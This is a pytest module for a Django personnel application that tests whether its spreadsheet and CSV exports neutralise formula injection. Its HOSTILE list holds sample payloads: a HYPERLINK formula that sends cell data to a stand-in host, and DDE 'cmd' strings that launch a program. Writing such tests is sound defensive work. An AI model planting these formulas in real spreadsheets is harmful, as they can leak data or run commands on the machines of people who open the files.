"""Every spreadsheet the application writes is safe to open: a text a person
typed that starts like a formula (=, +, -, @, tab, carriage return) is stored as
text in a workbook (never computed) and written with an apostrophe in front in
a CSV file, which imports back unchanged.

Tried over HTTP on every export: the administrators' exports of each table in
both formats, the import templates, a unit's establishment, the lists' "Xuất
Excel" and the staffing annex; and, for the exports to come, a check that no
module writes a workbook or a CSV file other than through the one helper.
"""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from appraisal.models import Dossier, StaffingProposal
from orgchart.models import Unit
from orgchart.spreadsheets import FORMULA_STARTS, looks_like_formula, workbook_bytes
from tests.orgchart.test_import_templates import RESOURCES, admin_url
from tests.workflows.test_lines_template import template_url
from tests.workflows.test_staffing_pages import all_people, plan  # noqa: F401

#: One hostile text per dangerous first character.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Chi tiết")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PAYLOAD = HOSTILE[0]
ROOT = Path(settings.BASE_DIR)


def cells(content: bytes) -> list:
    """Every cell of every sheet of the workbook ``content``."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
    ]


def assert_safe_workbook(content: bytes, *, holds: str = PAYLOAD) -> None:
    every = cells(content)
    assert not [c.coordinate for c in every if c.data_type == "f"]
    hostile = [c for c in every if c.value == holds]
    assert hostile, "the hostile text is not in the file"
    assert all(c.data_type == "s" and c.quotePrefix for c in hostile)


def test_every_dangerous_first_character_is_neutralised_in_both_formats():
    book = openpyxl.Workbook()
    for text in HOSTILE:
        book.active.append([text, -3, "-3", "2,5", "Sở Tư pháp"])
    every = cells(workbook_bytes(book))
    texts = [c for c in every if c.column == 1]
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    # Plain numbers and ordinary text are left as they are.
    assert not any(c.quotePrefix for c in every if c.column > 1)
    assert {text[0] for text in HOSTILE} == set(FORMULA_STARTS)
    assert all(looks_like_formula(text) for text in HOSTILE)
    assert not looks_like_formula("-3") and not looks_like_formula("2,5")


@pytest.fixture
def admin_client(client, make_user):
    user = make_user("administrator", username="admin-exports", is_staff=True)
    client.force_login(user)
    return client


def _hostile_names(units, ref):
    """A record of every table with a name starting like a formula."""
    for model in RESOURCES:
        model.objects.filter(pk=model.objects.order_by("pk").first().pk).update(
            name=PAYLOAD
        )


@pytest.mark.parametrize("model", list(RESOURCES), ids=lambda m: m.__name__)
def test_admin_exports_store_formulas_as_text(
    admin_client, units, ref, positions, model
):
    _hostile_names(units, ref)
    xlsx = admin_client.post(
        admin_url(model, "export"), {"resource": "0", "format": "1"}
    )
    assert_safe_workbook(xlsx.content)

    exported = admin_client.post(
        admin_url(model, "export"), {"resource": "0", "format": "0"}
    )
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert ["'" + PAYLOAD] in [[v for v in row if v.startswith("'")] for row in rows]
    assert not [v for row in rows for v in row if looks_like_formula(v)]


def test_a_csv_export_with_a_formula_imports_back_unchanged(admin_client, units, ref):
    from django.core.files.uploadedfile import SimpleUploadedFile

    Unit.objects.filter(pk=units["a"].pk).update(name=PAYLOAD)
    exported = admin_client.post(
        admin_url(Unit, "export"), {"resource": "0", "format": "0"}
    )
    preview = admin_client.post(
        admin_url(Unit, "import"),
        {
            "resource": "0",
            "format": "0",
            "import_file": SimpleUploadedFile("units.csv", exported.content),
        },
    )
    assert {row.import_type for row in preview.context["result"].rows} == {"skip"}


@pytest.mark.parametrize("model", list(RESOURCES), ids=lambda m: m.__name__)
def test_import_templates_store_formulas_as_text(
    admin_client, units, ref, positions, model
):
    _hostile_names(units, ref)
    response = admin_client.get(admin_url(model, "import_template"))
    assert not [c for c in cells(response.content) if c.data_type == "f"]


def test_the_line_template_stores_formulas_as_text(driver, ref):
    process = driver.start("officer")
    type(ref["specialised"]).objects.update(name=PAYLOAD)
    driver.login("officer")
    response = driver.client.get(template_url(process))
    assert response.status_code == 200
    assert not [c for c in cells(response.content) if c.data_type == "f"]


def test_the_establishment_export_stores_formulas_as_text(driver, units, positions):
    type(positions[0]).objects.filter(pk=positions[0].pk).update(name=PAYLOAD)
    driver.login("officer")
    response = driver.client.get(reverse("orgchart:unit_export", args=[units["a"].pk]))
    assert response.status_code == 200
    assert_safe_workbook(response.content)


@pytest.mark.parametrize(
    "path",
    [
        lambda: reverse("home:index"),
        lambda: reverse("dossiers:index"),
        lambda: reverse("jobpositionproject:inbox"),
    ],
    ids=["home", "dossiers", "inbox"],
)
def test_list_exports_store_formulas_as_text(driver, path):
    driver.start("officer", title=PAYLOAD)
    assert Dossier.objects.filter(title=PAYLOAD).exists()
    response = driver.client.get(path(), {"export": "xlsx"})
    assert response.status_code == 200
    assert_safe_workbook(response.content)


def test_the_staffing_annex_stores_formulas_as_text(client, plan, all_people):  # noqa: F811
    Unit.objects.filter(
        pk=StaffingProposal.objects.filter(plan=plan).first().unit_id
    ).update(name=PAYLOAD)
    client.force_login(all_people["division_head"])
    response = client.get(reverse("staffing:export", args=[plan.pk]))
    assert response.status_code == 200
    assert_safe_workbook(response.content)


def _writes_files_itself(path: Path) -> bool:
    """Whether a module saves a workbook or writes CSV without the helper."""
    tree = ast.parse(path.read_text())
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter"):
            if isinstance(node.value, ast.Name) and node.value.id == "csv":
                return True
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr == "save" and any(
                isinstance(arg, ast.Name) and "buffer" in arg.id for arg in node.args
            ):
                return True
    return False


def test_no_module_writes_a_spreadsheet_without_the_helper():
    helper = ROOT / "orgchart" / "spreadsheets.py"
    offenders = [
        str(path.relative_to(ROOT))
        for app in ("orgchart", "appraisal", "workflows", "config")
        for path in (ROOT / app).rglob("*.py")
        if path != helper
        and "migrations" not in path.parts
        and _writes_files_itself(path)
    ]
    assert offenders == []
